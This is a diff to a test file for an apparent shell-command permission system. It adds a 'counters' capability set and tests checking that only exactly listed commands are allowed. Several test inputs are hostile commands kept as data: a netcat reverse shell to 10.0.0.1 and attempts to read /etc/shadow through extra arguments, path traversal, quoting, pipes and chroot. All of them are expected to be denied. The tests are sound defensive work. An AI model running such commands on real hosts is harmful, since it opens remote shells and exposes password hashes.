@@ -23,6 +23,7 @@ capabilitySets:
   host-write: { tools: ['*'], capabilities: [SYS_CHROOT], host: { filesystem: read-write, pid: true }, effect: write, approval: { from: ['group:sre-leads'] } }
   firewall: { tools: [iptables], capabilities: [NET_ADMIN, NET_RAW], effect: write }
   everything: { tools: ['*'], capabilities: [ALL], host: { filesystem: read-write, pid: true }, effect: write }
+  counters: { tools: [ping, cat /proc/net/sockstat, chroot /host cat /etc/resolv.conf, cat -n /etc/hosts], capabilities: [SYS_CHROOT], host: { filesystem: read-only, pid: true } }
   trusted-pull: { tools: [ping], images: ['a.io/*'] }
 groups: { sre-leads: [alice@example.com, 'slack:usergroup/S0LEADS'], nested: ['group:sre-leads'] }
 grants:
@@ -35,6 +36,7 @@ grants:
   - { to: [puller@example.com], sets: [trusted-pull], on: [{ nodes: '*' }] }
   - { to: ['group:nested'], sets: [probe], on: [{ cluster: lab, nodes: 'lab-*-a' }] }
   - { to: [podder@example.com], sets: [probe], on: [{ namespaces: 'team=blue', pods: 'app in (web, api),tier!=db' }] }
+  - { to: [counter@example.com], sets: [counters], on: [{ nodes: '*' }, { namespaces: [shop] }] }
 `
 
 const { config } = expectValid(parseConfig(text, {}, { ...knownNames(), now: new Date(now) }))
@@ -161,6 +163,23 @@ test('SYS_ADMIN and ALL are granted only by name', () => {
 
 test('a special argument has to be granted by name, even with a grant for every tool', () => {
   expect(short(ask('root@example.com', 'shell node001 nc -e sh 10.0.0.1 1'))).toBe('deny special-argument')
+})
+
+test.each([
+  ['shell node001 cat /proc/net/sockstat', 'allow counters'],
+  ['shell -n shop pod/web-1 cat /proc/net/sockstat', 'allow counters'],
+  ['shell node001 chroot /host cat /etc/resolv.conf', 'allow counters'],
+  ['shell node001 cat /proc/net/sockstat | head -n 2', 'allow counters'],
+  ['shell node001 cat /etc/resolv.conf', 'deny tool'],
+  ['shell node001 cat /proc/net/sockstat /etc/shadow', 'deny tool'],
+  ['shell node001 cat /proc/net/../net/sockstat', 'deny tool'],
+  ['shell node001 cat "/proc/net/sockstat /etc/shadow"', 'deny tool'],
+  ['shell node001 chroot /host cat /etc/shadow', 'deny tool'],
+  ['shell node001 cat -n /etc/hosts', 'allow counters'],
+  ['shell node001 cat /etc/hosts -n', 'deny tool'],
+  ['shell node001 cat /proc/net/sockstat | cat /etc/shadow', 'deny tool'],
+])('T11 a set that lists a whole command gives that one and no other: %s → %s', (typed, expected) => {
+  expect(short(ask('counter@example.com', typed))).toBe(expected)
 })
 
 test('another image has to be granted by name', () => {
